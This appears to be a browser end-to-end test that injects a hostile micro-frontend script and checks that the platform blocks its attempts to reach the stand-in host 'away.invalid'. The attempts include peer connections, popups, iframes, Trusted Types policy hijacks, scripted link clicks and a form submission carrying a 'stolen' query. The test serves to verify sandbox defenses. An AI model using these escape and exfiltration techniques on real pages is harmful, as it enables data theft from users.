import { openHostile } from '../../commands/hostile-remote';
import { expect, test } from '../../fixtures/platform';

/** Tries each way out to a host that nobody may reach, and notes what it got hold of. */
const tryAll = `
(() => {
  const away = 'http://away.invalid/?stolen=1';
  const got = (globalThis.got = []);
  const attempt = (name, task) => { try { if (task()) got.push(name); } catch {} };
  const link = (parent) => {
    const a = document.createElement('a');
    a.href = away;
    a.target = '_blank';
    if (parent) parent.append(a);
    return a;
  };
  attempt('peer connection', () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:away.invalid' }] }));
  attempt('its old name', () => new webkitRTCPeerConnection({}));
  attempt('peer connection put back', () => { delete globalThis.RTCPeerConnection; return globalThis.RTCPeerConnection; });
  attempt('foreign window', () => window.open(away));
  attempt('empty window', () => window.open('about:blank'));
  attempt('own window with a reference', () => window.open('/login', 'mine'));
  attempt('another open', () => { window.open = () => 1; return window.open(); });
  for (const name of ['iframe', 'object', 'embed', 'IFrame'])
    attempt(name, () => document.body.appendChild(document.createElement(name)).contentWindow);
  attempt('frame by namespace', () =>
    document.body.appendChild(document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe')).contentWindow);
  attempt('frame of another document', () =>
    document.body.appendChild(document.implementation.createHTMLDocument().createElement('iframe')).contentWindow);
  attempt('frame as a document', () =>
    document.body.appendChild(document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe').documentElement).contentWindow);
  attempt('frame by an element of one’s own', () => {
    class Own extends HTMLIFrameElement {}
    customElements.define('x-frame', Own, { extends: 'iframe' });
    return document.body.appendChild(new Own()).contentWindow;
  });
  attempt('window of a document', () => document.open('/login', 'mine', ''));
  attempt('parsed answer', () => { const request = new XMLHttpRequest(); request.responseType = 'document'; return request.responseType; });
  attempt('another window', () => window.documentPictureInPicture);
  attempt('frame by markup', () => { document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); return window[0]; });
  attempt('policy', () => trustedTypes.createPolicy('dompurify', { createHTML: String }));
  attempt('second policy', () => trustedTypes.createPolicy('maru-html', { createHTML: String }));
  attempt('frames', () => window.length);
  link().click();
  link(document.body).click();
  link().dispatchEvent(new MouseEvent('click'));
  link(document.body).dispatchEvent(new MouseEvent('click', { bubbles: true }));
  HTMLElement.prototype.click.call(link());
  if (opener) sessionStorage.setItem('opened by', String(opener.location));
  if (name !== 'mine') {
    const twin = link(document.body);
    twin.href = location.pathname;
    twin.target = 'mine';
    twin.click();
  }
  const form = document.createElement('form');
  form.action = away;
  form.target = '_blank';
  document.body.append(form);
  attempt('form', () => { form.submit(); });
  got.done = true;
})();
`;

test('ways out of the page: peer connections, windows, frames and links that a script presses are closed', async ({
  page,
  context,
  platform,
  watch,
}) => {
  // What the policy blocks is said in the console.
  watch.expectProblems();
  const version = '6.4.0-hostile';
  const asked: string[] = [];
  context.on('request', (request) => {
    if (request.url().includes('away.invalid')) asked.push(request.url());
  });
  await openHostile(page, platform, { version, mounted: tryAll });
  await expect
    .poll(() => page.evaluate(() => (globalThis as unknown as { got: { done: boolean } }).got.done))
    .toBe(true);
  expect(await page.evaluate(() => [...(globalThis as unknown as { got: string[] }).got])).toEqual([]);
  await test.step('a page of this remote that it opens by a name does not hold the one that opened it', async () => {
    const twin = () => context.pages().find((other) => other !== page && other.url() === page.url());
    await expect.poll(twin).toBeDefined();
    const ended = () => twin()?.evaluate(() => (globalThis as unknown as { got?: { done?: boolean } }).got?.done);
    await expect.poll(ended).toBe(true);
    expect(await twin()?.evaluate(() => [window.opener, sessionStorage.getItem('opened by')])).toEqual([null, null]);
    await twin()?.close();
  });
  // The page goes on: another remote is shown, and its calls were the last to begin.
  await page.getByRole('navigation').first().getByRole('link', { name: '거래소' }).click();
  await expect(page.getByRole('main').getByText(/BTC/).first()).toBeVisible();
  expect(asked).toEqual([]);
  for (const other of context.pages()) expect(other.url()).not.toContain('away.invalid');
  await platform.maru('revoke', 'mfe-help', version, '--why', 'a trial');
});
